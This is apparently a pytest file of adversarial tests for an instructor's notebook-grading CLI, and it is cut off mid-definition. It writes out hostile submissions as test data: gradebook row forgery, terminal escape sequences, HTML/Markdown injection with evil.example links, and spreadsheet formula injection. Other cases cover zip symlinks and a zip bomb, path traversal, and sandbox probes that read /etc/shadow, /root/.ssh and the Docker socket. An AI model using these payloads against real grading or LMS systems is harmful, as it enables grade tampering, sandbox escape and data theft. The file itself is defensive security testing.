"""Round-three attacks on the instructor's grading tools, written from the outside.

Written by an independent attacker from the documentation only (docs/instructor_guide.md, the
CLI's --help, the exercises, docs/demo_class.py and tests/grading_helpers.py), never from the
grading code. Each test builds a hostile submission, LMS download or roster in tmp_path, runs the
real CLI (``python -m mha_helpers.cli``) and asserts the SAFE outcome, so a failing test means
the attack worked. Issue 30 (gradebook integrity: identity from the LMS, exports that keep what
the LMS holds, nothing changing a grade silently) and issue 31 (sandbox round three: nothing of
the hidden cases in feedback, the sandbox owning nothing outside, bounded cost, sanitised
console, validate never unsandboxed, escaped feedback) are both covered, mostly with attacks
the issues do not spell out.

Probing from inside the sandbox uses the scores as the only channel out: a probe cell sets a
value answer to a wrong value when its attack succeeded, so a lost point is a successful attack.
Hidden-case leaks are detected with fingerprints: the student's functions turn every input they
are called with into ``QZ`` + 10 hex digits (a hash of the first argument); the public cases'
fingerprints are computed here from the released self-check data, and any other fingerprint
that reaches feedback, gradebook or console came from a hidden case.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from grading_helpers import CORRECT, make_notebook, require_sandbox  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
A03 = "03_concatenate_and_project"
MAGIC_TIME = 1234567890  # a device node's mtime set to this from inside = the sandbox owns it
ESCAPES = re.compile("[\x1b\x07\x9b\x9d\x9c\x90\x8d]")


# --------------------------------------------------------------------------- helpers


def cli(*args, cwd=None, env=None, timeout=180):
    """Run the real CLI; returns (returncode, stdout, stderr, seconds). Output kept as text
    with undecodable bytes escaped, so escape sequences stay visible."""
    e = dict(os.environ)
    e["PYTHONPATH"] = str(ROOT) + (os.pathsep + e["PYTHONPATH"] if e.get("PYTHONPATH") else "")
    if env:
        e.update(env)
    t0 = time.monotonic()
    r = subprocess.run(
        [sys.executable, "-m", "mha_helpers.cli", *map(str, args)],
        cwd=cwd or ROOT,
        env=e,
        capture_output=True,
        timeout=timeout,
    )
    dt = time.monotonic() - t0
    dec = lambda b: b.decode("utf-8", "surrogateescape")  # noqa: E731
    return r.returncode, dec(r.stdout), dec(r.stderr), dt


def grade(paths, out, *extra, timeout=6, jobs=2, feedback=None):
    args = ["grade", *paths, "--out", out, "--course", ROOT, "--timeout", timeout, "--jobs", jobs]
    if feedback:
        args += ["--feedback", feedback]
    return cli(*args, *extra)


def rows(gradebook):
    with open(gradebook, newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def row(gradebook, student_id, assignment=A03):
    found = [
        r
        for r in rows(gradebook)
        if r["student_id"] == student_id and r["assignment"] == assignment
    ]
    assert len(found) == 1, f"expected one row for {student_id}, got {found}"
    return found[0]


def num(x):
    try:
        return float(x)
    except (TypeError, ValueError):
        return None


def exercise_path(name):
    return ROOT / "exercises" / f"{name}.ipynb"


def filled(name, answers=None, added=(), written=None):
    """The released exercise `name` with answer cells replaced (grade_id -> source) and added
    code cells inserted after the answer cell they name: added = [(after_grade_id, source)]."""
    nb = nbformat.read(exercise_path(name), as_version=4)
    answers = answers or {}
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
        elif (
            written is not None
            and cell.cell_type == "markdown"
            and gid
            and (cell.metadata.get("nbgrader", {}).get("solution"))
        ):
            cell.source = written
    for after, src in reversed(list(added)):
        i = next(
            i
            for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == after
        )
        nb.cells.insert(i + 1, nbformat.v4.new_code_cell(src))
    return nb


def put(path, nb, mtime=None):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


OLD = time.time() - 30 * 86400  # victims handed in a month ago; attackers' files are newer

# A probe cell sets flags in _atk; this cell, added after it, turns each flag into a lost point.
APPLY = (
    "if _atk.get('d_head'): d_head = 0\n"
    "if _atk.get('identity_output'): identity_output = [0.0, 0.0, 0.0, 0.0]\n"
    "if _atk.get('concat_vs_average'): concat_vs_average = 'a'\n"
)


def probe_nb(probe_src, after=None):
    """Exercise 03 answered correctly, then a probe cell and the APPLY cell."""
    added = [("q03_concat_project", "_atk = {}\n" + probe_src), ("q03_concat_project", APPLY)]
    # reversed insertion keeps them in the given order after q03_concat_project
    nb = filled(A03, CORRECT, added=[])
    idx = next(
        i
        for i, c in enumerate(nb.cells)
        if c.metadata.get("nbgrader", {}).get("grade_id") == "q03_concat_project"
    )
    for k, (_, src) in enumerate(added):
        nb.cells.insert(idx + 1 + k, nbformat.v4.new_code_cell(src))
    if after:
        nb.cells.insert(idx + 1 + len(added), nbformat.v4.new_code_cell(after))
    return nb


def assert_probe_clean(r, which=("q03_d_head", "q03_identity_output", "q03_concat_vs_average")):
    lost = [
        g
        for g in which
        if num(r[g]) != {"q03_d_head": 1, "q03_identity_output": 1, "q03_concat_vs_average": 2}[g]
    ]
    assert not lost, f"probe(s) succeeded inside the sandbox: {lost}; row {r}"


# --- fingerprints of inputs (public cases from the released self-check data)

FP_SRC = (
    "def _fp(a):\n"
    "    import hashlib as _h, numpy as _n\n"
    "    return _h.sha256(_n.ascontiguousarray(_n.asarray(a, dtype=float)).tobytes())"
    ".hexdigest()[:10]\n"
)


def _fp(a):
    return hashlib.sha256(np.ascontiguousarray(np.asarray(a, dtype=float)).tobytes()).hexdigest()[
        :10
    ]


def _decode(x):
    if isinstance(x, dict):
        if "__tuple__" in x:
            return tuple(_decode(y) for y in x["__tuple__"])
        if "__list__" in x:
            return [_decode(y) for y in x["__list__"]]
        if "__array__" in x:
            a = np.frombuffer(base64.b64decode(x["b64"]), dtype=x["dtype"])
            return a.reshape(x["__array__"])
        return {k: _decode(v) for k, v in x.items()}
    if isinstance(x, list):
        return [_decode(y) for y in x]
    return x


def public_fps(*assignments):
    fps = set()
    for a in assignments:
        data = json.loads((ROOT / "mha_helpers/grading/selfcheck/data" / f"{a}.json").read_text())
        for q in data["questions"]:
            for case in (q.get("public") or {}).get("cases", []) or []:
                args = _decode(case)
                first = args[0] if isinstance(args, (tuple, list)) else args
                try:
                    fps.add(_fp(first))
                except (TypeError, ValueError):
                    pass
    assert fps, "no public cases found in the self-check data (the test cannot tell leaks)"
    return fps


MARK = re.compile(r"QZ([0-9a-f]{10})")


def all_text(*paths_or_strings):
    out = []
    for p in paths_or_strings:
        if isinstance(p, Path):
            if p.is_dir():
                for f in sorted(p.rglob("*")):
                    if f.is_file():
                        out.append(f.read_text("utf-8", "surrogateescape"))
            elif p.exists():
                out.append(p.read_text("utf-8", "surrogateescape"))
        else:
            out.append(p)
    return "\n".join(out)


def leaked(text, public):
    return sorted({m for m in MARK.findall(text) if m not in public})


# --------------------------------------------------------------------------- issue 30
# A Moodle flat download in which students' chosen names and file names imitate classmates.

MOODLE_WS_HEAD = (
    "Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,"
    "Last modified (submission),Last modified (grade),Feedback comments\n"
)
FORGED = (
    'Zed\n"512002","Forged","03_concatenate_and_project","1","1","2","2","4","10","10","0",'
    '"no","1","10","ok","x",""\nQ'
)
EVIL_NAME_ESC = "Eve\x1b]0;pwned\x07\x1b[8m\u009b8m\u009d0;t\u009c"
EVIL_NAME_HTML = "Ev<img src=x onerror=alert(1)>[c](javascript:alert(1))"
EVIL_MSG = (
    "<img src=x onerror=alert(1)> <script>alert(1)</script> "
    "![t](http://evil.example/p.png) [c](javascript:alert(1))"
)


@pytest.fixture(scope="module")
def moodle(tmp_path_factory):
    require_sandbox()
    base = tmp_path_factory.mktemp("moodle")
    dl = base / "moodle_download"
    dl.mkdir()
    blank = make_notebook(answers={}, written=None)
    # three victims, correct, handed in a month ago
    put(dl / "Ana Lúcia Souza_512001_assignsubmission_file_ex03.ipynb", make_notebook(), OLD)
    put(dl / "Bo Chen_512002_assignsubmission_file_ex03.ipynb", make_notebook(), OLD)
    put(dl / "Cy Dee_512003_assignsubmission_file_ex03.ipynb", make_notebook(), OLD)
    # M1: a display name ending like Ana's prefix
    put(
        dl
        / "Ana Lúcia Souza_512001_assignsubmission_file_ x_512101_assignsubmission_file_hw.ipynb",
        blank,
    )
    # M2: an uploaded file name that is Bo's prefix
    put(
        dl / "Mallory Q_512102_assignsubmission_file_Bo Chen_512002_assignsubmission_file_hw.ipynb",
        blank,
    )
    # M3: full-width digits (\d matches them, int() reads them) in a display name
    put(
        dl
        / "Cy Dee_\uff15\uff11\uff12\uff10\uff10\uff13_assignsubmission_file__512103_assignsubmission_file_hw.ipynb",
        blank,
    )
    # M4: a display name holding newlines and a forged CSV row for Ana
    put(dl / f"{FORGED}_512104_assignsubmission_file_hw.ipynb", blank)
    # M5: terminal escapes in the name and in a cell's error, then a crash (so a row needs a look)
    esc_nb = filled(
        A03,
        CORRECT,
        added=[
            ("q03_d_head", "raise ValueError('\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\u009b2J boom')"),
            ("q03_concat_project", "import os\nos._exit(3)"),
        ],
    )
    put(dl / f"{EVIL_NAME_ESC}_512105_assignsubmission_file_hw.ipynb", esc_nb)
    # M6: HTML and Markdown in the name, the error text of a public case and the written answer
    html_nb = filled(
        A03,
        dict(
            CORRECT,
            q03_concat_project=f"def concat_project(head_outputs, w_o):\n    raise ValueError({EVIL_MSG!r})\n",
        ),
        written="<script>alert(2)</script> ![w](http://evil.example/w.png)",
    )
    put(dl / f"{EVIL_NAME_HTML}_512106_assignsubmission_file_hw.ipynb", html_nb)
    # M7: a Cyrillic look-alike of Bo Chen's name ('о' is U+043E)
    put(dl / "B\u043e Chen_512107_assignsubmission_file_hw.ipynb", make_notebook(written="mine"))
    gb = base / "gb" / "gradebook.csv"
    gb.parent.mkdir()
    fb = base / "feedback"
    rc, out, err, dt = grade([dl], gb, feedback=fb, timeout=6)
    ws = base / "worksheet.csv"
    ws.write_text(
        MOODLE_WS_HEAD
        + "Participant 512001,\u200b=1+2,ana@uni.example,Submitted for grading,,10.00,Yes,"
        '"Monday, 30 November 2026, 9:14 AM",-,\n'
        "Participant 512002,Bo Chen,bo@uni.example,Submitted for grading,,10.00,Yes,"
        '"Monday, 30 November 2026, 9:15 AM","Monday, 30 November 2026, 10:01 AM",'
        "Plagiarism hearing: do not grade\n"
        "Participant 512003,Cy Dee,cy@uni.example,Submitted for grading,0.00,10.00,Yes,"
        '"Monday, 30 November 2026, 9:16 AM","Monday, 30 November 2026, 10:00 AM",\n',
        encoding="utf-8",
    )
    return dict(base=base, dl=dl, gb=gb, fb=fb, rc=rc, out=out, err=err, dt=dt, ws=ws)


def _victim_unchanged(gb, sid, own_file_part):
    r = row(gb, sid)
    assert num(r["total"]) == 8 and r["status"] == "ok", f"classmate {sid}'s row changed: {r}"
    assert own_file_part in r["file"] and "_5121" not in r["file"], f"{sid} got another file: {r}"


def test_moodle_display_name_ending_like_a_classmates_prefix(moodle):
    """Attack 1 (issue 30.3): a student sets her Moodle full name to 'Ana Lúcia
    Souza_512001_assignsubmission_file_ x'; her newer blank file must not become Ana's copy."""
    _victim_unchanged(moodle["gb"], "512001", "Ana Lúcia Souza_512001_assignsubmission_file_ex03")


def test_moodle_upload_named_like_a_classmates_file(moodle):
    """Attack 2 (issue 30.3): an uploaded file named 'Bo Chen_512002_assignsubmission_file_hw'
    must stay the uploader's (512102), never Bo's."""
    _victim_unchanged(moodle["gb"], "512002", "Bo Chen_512002_assignsubmission_file_ex03")


def test_moodle_fullwidth_digit_lookalike_id(moodle):
    """Attack 3 (issue 30.3, Unicode look-alike): full-width digits '５１２００３' in a display
    name are not Cy's participant id 512003."""
    _victim_unchanged(moodle["gb"], "512003", "Cy Dee_512003_assignsubmission_file_ex03")
    ids = {r["student_id"] for r in rows(moodle["gb"])}
    assert not any(re.search(r"[\uff10-\uff19]", i) for i in ids), f"an id a student typed: {ids}"
    assert "512103" in ids, f"the uploader's LMS id 512103 is lost: {ids}"


def test_gradebook_row_injection_through_newlines_in_a_name(moodle):
    """Attack 4 (issue 30.1/30.3): a display name with newlines and quotes carries a forged CSV
    row for Bo. Every (student_id, assignment) appears once, Bo keeps 8, not 10, and the
    uploader's row has the LMS's participant id 512104, not a name built from her text."""
    rs = rows(moodle["gb"])
    keys = [(r["student_id"], r["assignment"]) for r in rs]
    assert len(keys) == len(set(keys)), f"duplicate rows: {keys}"
    assert not any(r["student"] == "Forged" for r in rs)
    assert num(row(moodle["gb"], "512002")["total"]) == 8
    assert "512104" in {r["student_id"] for r in rs}, [r["student_id"] for r in rs]
    assert set(rs[0].keys()) == set(next(csv.reader(open(moodle["gb"], encoding="utf-8-sig"))))


def test_console_gets_no_escape_sequences_from_names_or_errors(moodle):
    """Attack 5 (issue 31.5): OSC title / OSC 52 clipboard / conceal / 8-bit CSI in a display
    name and in a cell's error text must not reach the instructor's terminal (stdout or
    stderr, progress bar included)."""
    for name, stream in (("stdout", moodle["out"]), ("stderr", moodle["err"])):
        bad = ESCAPES.findall(stream)
        assert not bad, f"{name} carries terminal controls {bad!r}: {stream[:3000]!r}"


def test_feedback_escapes_student_html_and_markdown(moodle):
    """Attack 6 (issue 31.9): HTML and Markdown in a display name, a public case's error text
    and a written answer must be inert in the .html and the .md feedback."""
    files = [f for f in moodle["fb"].rglob("*512106*")]
    assert files, "no feedback for the student"
    for f in files:
        text = f.read_text("utf-8")
        if f.suffix == ".html":
            low = text.lower()
            assert "<img" not in low and "<script" not in low, f"{f.name} holds a live tag"
            live = re.findall(
                r"<[a-z][^>]*(?:href|src)\s*=\s*[\"']?(?:javascript:|http://evil)", low
            )
            assert not live, f"{f.name} holds a live link {live}"
        else:
            # a Markdown image or link with the student's target must not render
            for m in re.finditer(r"!?\[[^\]]*\]\((?:javascript:|http://evil)", text):
                line = text[: m.start()].rsplit("\n", 1)[-1]
                assert line.count("`") % 2 == 1, f"{f.name}: live Markdown {m.group(0)!r}"
            assert "<img" not in text and "<script" not in text, f"{f.name} holds raw HTML"


def test_manual_points_typed_by_name_never_reach_a_lookalike(moodle, tmp_path):
    """Attack 35 (issue 30.3, Unicode look-alike): a student names herself 'Bо Chen' (Cyrillic
    о). The instructor's written-answer points typed for 'Bo Chen' go to Bo (512002) or are
    refused as ambiguous; the look-alike (512107) never gets them."""
    gbdir = tmp_path / "gb"
    shutil.copytree(moodle["gb"].parent, gbdir)
    gb = gbdir / "gradebook.csv"
    manual = tmp_path / "written.csv"
    manual.write_text("student,grade_id,points\nBo Chen,q03_explain,2\n", encoding="utf-8")
    rc, so, se, _ = grade([], gb, "--manual", manual)
    imp = row(gb, "512107")
    assert imp["q03_explain"] in ("pending", ""), f"the look-alike got Bo's points: {imp}"


def test_moodle_export_keeps_a_zero_grade_and_a_teachers_comment(moodle, tmp_path):
    """Attack 7 (issue 30.4, falsy values): the worksheet holds Cy's grade 0.00 (entered in
    Moodle after her submission) and a teacher's comment for Bo. Without --overwrite both stay."""
    out = tmp_path / "upload.csv"
    rc, so, se, _ = cli(
        "export",
        moodle["gb"],
        "--to",
        "moodle",
        "--roster",
        moodle["ws"],
        "--out",
        out,
        "--assignment",
        A03,
    )
    assert out.exists(), so + se
    got = {r["Identifier"]: r for r in csv.DictReader(io.StringIO(out.read_text("utf-8-sig")))}
    cy, bo = got["Participant 512003"], got["Participant 512002"]
    assert num(cy["Grade"]) == 0.0, f"Moodle's 0.00 for Cy was overwritten: {cy}"
    assert bo["Feedback comments"] == "Plagiarism hearing: do not grade", bo
    assert rc != 0, "conflicts with what Moodle holds must be reported"


# --------------------------------------------------------------------------- a Canvas download

CANVAS_HEAD = (
    "Student,ID,SIS User ID,SIS Login ID,Section,03 Concatenate and project (123456)\n"
    "    Points Possible,,,,,10\n"
)
ROSTER_NAMES = {
    "1001": ("Perez, Ana", "0"),  # the instructor already entered 0 (a plagiarism case)
    "1002": ("Okafor, Ben", "ex"),  # excused, typed in lower case
    "1003": ('=HYPERLINK("http://evil.example/?"&A1,"x")', ""),
    "1004": ("\u200b=1+2", ""),
    "1005": ("\uff0b1+2", ""),
    "1006": ("../../../../escape_here", ""),
    "1007": ("\u202e@SUM(A1)", ""),
    "1008": (" =2+5", ""),
}


def _deep_json_notebook():
    d = 100_000
    return (
        '{"cells": [], "metadata": {"x": '
        + "[" * d
        + "]" * d
        + '}, "nbformat": 4, "nbformat_minor": 5}'
    )


@pytest.fixture(scope="module")
def canvas(tmp_path_factory):
    require_sandbox()
    base = tmp_path_factory.mktemp("canvas")
    dl = base / "canvas_download"
    dl.mkdir()
    blank = nbformat.writes(make_notebook(answers={}, written=None))
    ana = put(dl / "perezana_1001_5001_03_concatenate_and_project.ipynb", make_notebook(), OLD)
    put(dl / "okaforben_1002_5002_03_concatenate_and_project.ipynb", make_notebook(), OLD)
    # 1003: a zip whose only member is a symbolic link to Ana's file
    with zipfile.ZipFile(dl / "mallory_1003_5003_work.zip", "w") as z:
        info = zipfile.ZipInfo("03.ipynb")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info, str(ana))
        info2 = zipfile.ZipInfo("rel/03b.ipynb")
        info2.create_system = 3
        info2.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(info2, "../../perezana_1001_5001_03_concatenate_and_project.ipynb")
    # 1004: a zip holding a Moodle-style folder for Ben and an inner zip named as Ben's resubmission
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("okaforben_1002_5099_03_concatenate_and_project-1.ipynb", blank)
    with zipfile.ZipFile(dl / "trudy_1004_5004_work.zip", "w") as z:
        z.writestr("Okafor Ben_1002_assignsubmission_file_/hw.ipynb", blank)
        z.writestr("okaforben_1002_5098_03_concatenate_and_project-2.zip", inner.getvalue())
    # 1005: a zip bomb below the documented whole-archive limits (4 x 120 MB of blanks)
    with zipfile.ZipFile(dl / "victor_1005_5005_work.zip", "w", zipfile.ZIP_DEFLATED) as z:
        chunk = b" " * (8 << 20)
        for k in range(4):
            with z.open(f"part{k}/03.ipynb", "w", force_zip64=True) as f:
                f.write(b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5')
                for _ in range(15):
                    f.write(chunk)
                f.write(b"}")
    # 1006: a notebook nested 100000 deep
    (dl / "deepjson_1006_5006_03.ipynb").write_text(_deep_json_notebook())
    # 1007: a correct notebook carrying 9 MB of stored output
    huge = make_notebook()
    for c in huge.cells:
        if c.cell_type == "code":
            c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="A" * (9 << 20))]
            break
    put(dl / "hugeout_1007_5007_03.ipynb", huge)
    # 1008: an upload whose name is also a Moodle flat name for Ana (blank, newer)
    (dl / "eve_1008_5008_Perez Ana_1001_assignsubmission_file_hw.ipynb").write_text(blank)
    # 1009, 1010: an assignment name in the notebook's metadata that is a path, and a formula
    for sid, asg in (("1009", "../../../../escape_asg"), ("1010", "=1+2")):
        nb = make_notebook(answers={}, written=None)
        nb.metadata["mha_course"] = {"assignment": asg}
        for c in nb.cells:
            c.metadata.pop("nbgrader", None)
        put(dl / f"meta_{sid}_{sid}9_hw.ipynb", nb)
    roster = base / "canvas_export.csv"
    roster.write_text(
        CANVAS_HEAD
        + "".join(
            f'"{n.replace(chr(34), chr(34) * 2)}",{sid},S{sid},login{sid},MHA 101,{g}\n'
            for sid, (n, g) in ROSTER_NAMES.items()
        ),
        encoding="utf-8",
    )
    gbdir = base / "gb"
    gbdir.mkdir()
    gb = gbdir / "gradebook.csv"
    fb = base / "feedback"
    rc, out, err, dt = grade([dl], gb, "--roster", roster, feedback=fb, timeout=6)
    return dict(
        base=base, dl=dl, gb=gb, gbdir=gbdir, fb=fb, roster=roster, rc=rc, out=out, err=err, dt=dt
    )


def test_canvas_zip_symlink_to_a_classmates_file(canvas):
    """Attack 8 (issue 30.3 / archives): a zip member that is a symbolic link (absolute and
    relative) to Ana's file in the download gives its owner nothing and leaves Ana's row."""
    assert canvas["gb"].exists(), canvas["out"] + canvas["err"]
    m = row(canvas["gb"], "1003")
    assert not num(m["total"]), f"the link was followed: {m}"
    _victim_unchanged(canvas["gb"], "1001", "perezana_1001_5001")


def test_canvas_zip_with_moodle_folder_and_inner_zip_for_a_classmate(canvas):
    """Attack 9 (issue 30.3): members of Trudy's zip named as Ben's Moodle folder and as Ben's
    later Canvas resubmission (an inner zip, '-2') belong to Trudy, never replace Ben's row."""
    _victim_unchanged(canvas["gb"], "1002", "okaforben_1002_5002")


def test_canvas_upload_named_as_moodle_file_of_a_classmate(canvas):
    """Attack 10 (issue 30.3, layout): a Canvas upload named '..._Perez Ana_1001_
    assignsubmission_file_hw.ipynb' matches Moodle's flat pattern too; it must neither flip the
    layout nor fill Ana's row."""
    _victim_unchanged(canvas["gb"], "1001", "perezana_1001_5001")
    assert "canvas" in canvas["out"], canvas["out"]
    assert not num(row(canvas["gb"], "1008")["total"])


def test_zip_bomb_below_the_whole_archive_limits(canvas):
    """Attack 11 (archives): 480 MB of blanks in four members, under the 512 MiB declared limit;
    the run stays quick, the bomb scores nothing and costs no one else."""
    assert canvas["dt"] < 60, f"the batch took {canvas['dt']:.0f} s"
    assert not num(row(canvas["gb"], "1005")["total"])
    _victim_unchanged(canvas["gb"], "1002", "okaforben_1002_5002")


def test_deep_json_and_huge_outputs_cost_only_their_owner(canvas):
    """Attack 12 (issue 30.6): a notebook nested 100000 deep and one with 9 MB of stored
    output: each gets a row saying why (or is graded), no traceback, bounded gradebook and
    feedback, other rows intact."""
    assert "Traceback" not in canvas["err"], canvas["err"][-3000:]
    assert canvas["rc"] in (0, 1), canvas["rc"]
    deep = row(canvas["gb"], "1006")
    assert deep["status"] != "ok" and not num(deep["total"]), deep
    big = row(canvas["gb"], "1007")
    assert big["status"] in ("ok", "too-large"), big
    assert canvas["gb"].stat().st_size < 200_000
    assert all(f.stat().st_size < 200_000 for f in canvas["fb"].rglob("*") if f.is_file())


def test_feedback_paths_stay_inside_the_feedback_folder(canvas):
    """Attack 13 (path traversal): a roster display name '../../../../escape_here' must not
    place a feedback file outside --feedback."""
    fb = canvas["fb"].resolve()
    for f in canvas["base"].rglob("*"):
        if f.suffix in (".md", ".html"):
            assert fb in f.resolve().parents, f"feedback written outside {fb}: {f}"
    assert not list(Path(canvas["base"]).parent.rglob("escape_here*"))


def test_assignment_name_from_metadata_steers_no_path_and_no_formula(canvas):
    """Attack 32 (paths and formulas through the notebook's own metadata): a notebook whose
    mha_course.assignment is '../../../../escape_asg' or '=1+2' (and no grade_id) writes
    nothing outside --feedback and no formula cell into the gradebook."""
    fb = canvas["fb"].resolve()
    for f in Path(canvas["base"]).parent.rglob("*escape_asg*"):
        assert fb in f.resolve().parents, f"written outside the feedback folder: {f}"
    for f in canvas["base"].rglob("*"):
        if f.is_file() and f.suffix in (".md", ".html"):
            assert fb in f.resolve().parents, f
    cells = [c for rec in csv.reader(io.StringIO(canvas["gb"].read_text("utf-8-sig"))) for c in rec]
    assert not [c for c in cells if _formula(c)], [c for c in cells if _formula(c)]


def _formula(cell):
    c = unicodedata.normalize("NFKC", cell)
    c = "".join(ch for ch in c if unicodedata.category(ch) not in ("Cf", "Cc", "Zs", "Zl", "Zp"))
    c = c.lstrip()
    if not c or c == "-" or num(c) is not None:
        return False
    return c[0] in "=+-@"


def test_exports_and_gradebook_neutralise_disguised_formulas(canvas, moodle, tmp_path):
    """Attack 14 (issue 30.4, formula injection): names starting with a formula behind a
    zero-width space, a bidi override, a leading space, or as a full-width plus must be
    neutralised in the gradebook and both exports, as plain '=' is."""
    out_c = tmp_path / "canvas_import.csv"
    cli(
        "export",
        canvas["gb"],
        "--to",
        "canvas",
        "--roster",
        canvas["roster"],
        "--out",
        out_c,
        "--assignment",
        A03,
    )
    out_m = tmp_path / "moodle_upload.csv"
    cli(
        "export",
        moodle["gb"],
        "--to",
        "moodle",
        "--roster",
        moodle["ws"],
        "--out",
        out_m,
        "--assignment",
        A03,
    )
    bad = []
    for f in (canvas["gb"], out_c, out_m):
        assert f.exists(), f
        for rec in csv.reader(io.StringIO(f.read_text("utf-8-sig"))):
            bad += [(f.name, cell) for cell in rec if _formula(cell)]
    assert not bad, f"cells a spreadsheet runs as formulas: {bad}"


def test_canvas_export_keeps_a_zero_and_a_lowercase_excused(canvas, tmp_path):
    """Attack 15 (issue 30.4, falsy and case variants): Canvas holds 0 for Ana and 'ex' for
    Ben; without --overwrite the import file must not carry 8 over either, and must say so."""
    out = tmp_path / "canvas_import.csv"
    rc, so, se, _ = cli(
        "export",
        canvas["gb"],
        "--to",
        "canvas",
        "--roster",
        canvas["roster"],
        "--out",
        out,
        "--assignment",
        A03,
    )
    assert out.exists(), so + se
    rdr = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    head = rdr[0]
    col = next(i for i, h in enumerate(head) if h.startswith("03"))
    got = {r[1]: r[col] for r in rdr[1:] if len(r) > col}
    assert got.get("1001", "") in ("", "0"), f"Canvas's 0 for Ana overwritten: {got.get('1001')}"
    assert got.get("1002", "").upper() in ("", "EX"), f"'ex' overwritten: {got.get('1002')}"
    assert rc != 0, "conflicts with Canvas must be listed (exit 1)"


def test_hand_edited_question_points_survive_a_regrade_of_someone_else(canvas, tmp_path):
    """Attack 16 (issue 30.2, careless instructor): a hand edit of one question's points in the
    CSV (Ben's q03_concat_project 4 -> 3 after a regrade request) is never reverted by grading
    another student's file."""
    gbdir = tmp_path / "gb"
    shutil.copytree(canvas["gbdir"], gbdir)
    gb = gbdir / "gradebook.csv"
    with open(gb, newline="", encoding="utf-8-sig") as f:
        rd = csv.reader(f)
        data = list(rd)
    head = data[0]
    i_id, i_a, i_q = (
        head.index("student_id"),
        head.index("assignment"),
        head.index("q03_concat_project"),
    )
    for r in data[1:]:
        if r[i_id] == "1002" and r[i_a] == A03:
            assert r[i_q] == "4"
            r[i_q] = "3"
            for k in ("total", "score"):
                r[head.index(k)] = str(num(r[head.index(k)]) - 1)
    with open(gb, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, quoting=csv.QUOTE_ALL).writerows(data)
    rc, so, se, _ = grade(
        [canvas["dl"] / "perezana_1001_5001_03_concatenate_and_project.ipynb"], gb, timeout=6
    )
    assert row(gb, "1002")["q03_concat_project"] == "3", (
        f"the instructor's edit was reverted (rc {rc}): {so}{se}"
    )


# --------------------------------------------------------------------------- issue 31: probes

DEVICES = ["/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty"]

DEV_PROBE = f"""
import os
for p in {DEVICES!r}:
    try:
        st = os.stat(p)
    except OSError:
        continue
    for act in (lambda: os.utime(p, ({MAGIC_TIME}, {MAGIC_TIME})),
                lambda: os.chmod(p, stat_mode(st)),
                lambda: os.chown(p, st.st_uid, st.st_gid)):
        try:
            act()
            _atk['d_head'] = True
        except Exception:
            pass
    try:
        if st.st_uid == os.geteuid():
            _atk['identity_output'] = True
    except Exception:
        pass
if os.getuid() == 0 or os.geteuid() == 0 or os.getgid() == 0:
    _atk['identity_output'] = True
"""
DEV_PROBE = (
    "def stat_mode(st):\n    import stat as _s\n    return _s.S_IMODE(st.st_mode)\n" + DEV_PROBE
)


def _env_probe(tmp):
    hosty = [str(ROOT), str(tmp), "/work/", "/root"]
    paths = [
        str(ROOT),
        str(ROOT / "solutions"),
        str(tmp),
        "/work/main/solutions",
        "/work/shared",
        "/root/.ssh",
        "/root/.bash_history",
        "/root/.cache",
        "/home",
        "/proc/self",
        "/sys/kernel",
        "/etc/shadow",
        "/var/run/docker.sock",
        "/run/user",
    ]
    return f"""
import os, sys, fnmatch
for k, v in os.environ.items():
    if any(h in v for h in {hosty!r}) or any(h in k for h in ("PYTEST", "GITHUB", "SSH_")):
        _atk['d_head'] = True
for p in {paths!r}:
    try:
        if os.path.isdir(p) and os.listdir(p) or os.path.isfile(p) and open(p, 'rb').read(1):
            _atk['identity_output'] = True
    except OSError:
        pass
skip = {{'/usr', '/sandbox', os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix)}}
seen = 0
for top, dirs, files in os.walk('/'):
    dirs[:] = [d for d in dirs if os.path.realpath(os.path.join(top, d)) not in skip
               and not os.path.islink(os.path.join(top, d))]
    for f in files + dirs:
        seen += 1
        if (fnmatch.fnmatch(f, 'bank_*.py') or f.endswith('.ipynb') or f == 'solutions'
                or f.startswith('gradebook') and f.endswith(('.csv', '.db', '.sqlite', '.sqlite3'))
                or f == '{A03}.json'):
            _atk['concat_vs_average'] = True
    if seen > 50000:
        break
"""


FILL_PROBE = """
import os, tempfile
total = 0
chunk = b'x' * (1 << 20)
for d in ('/sandbox', os.getcwd(), tempfile.gettempdir(), '/dev/shm', os.path.expanduser('~'),
          '/var/tmp', '/tmp'):
    try:
        with open(os.path.join(d, 'fill_%d' % os.getpid()), 'wb') as f:
            for _ in range(160):
                f.write(chunk)
                total += 1
                if total > 200:
                    break
    except OSError:
        pass
if total > 96:
    _atk['d_head'] = True
xb = 0
try:
    p = os.path.join(tempfile.gettempdir(), 'x_%d' % os.getpid())
    open(p, 'wb').close()
    for k in range(300):
        os.setxattr(p, 'user.k%d' % k, b'y' * 60000)
        xb += 60000
except OSError:
    pass
if xb > 4 * 60000:
    _atk['identity_output'] = True
"""

SIG_PROBE = """
import os, signal
n = 0
try:
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN, signal.SIGRTMIN + 1])
    for _ in range(20000):
        os.kill(os.getpid(), signal.SIGRTMIN)
        n += 1
except OSError:
    pass
if n >= 4096:
    _atk['d_head'] = True
"""
SIG_KILL = """
import os, signal
for target in (os.getppid(), 1, -1):
    try:
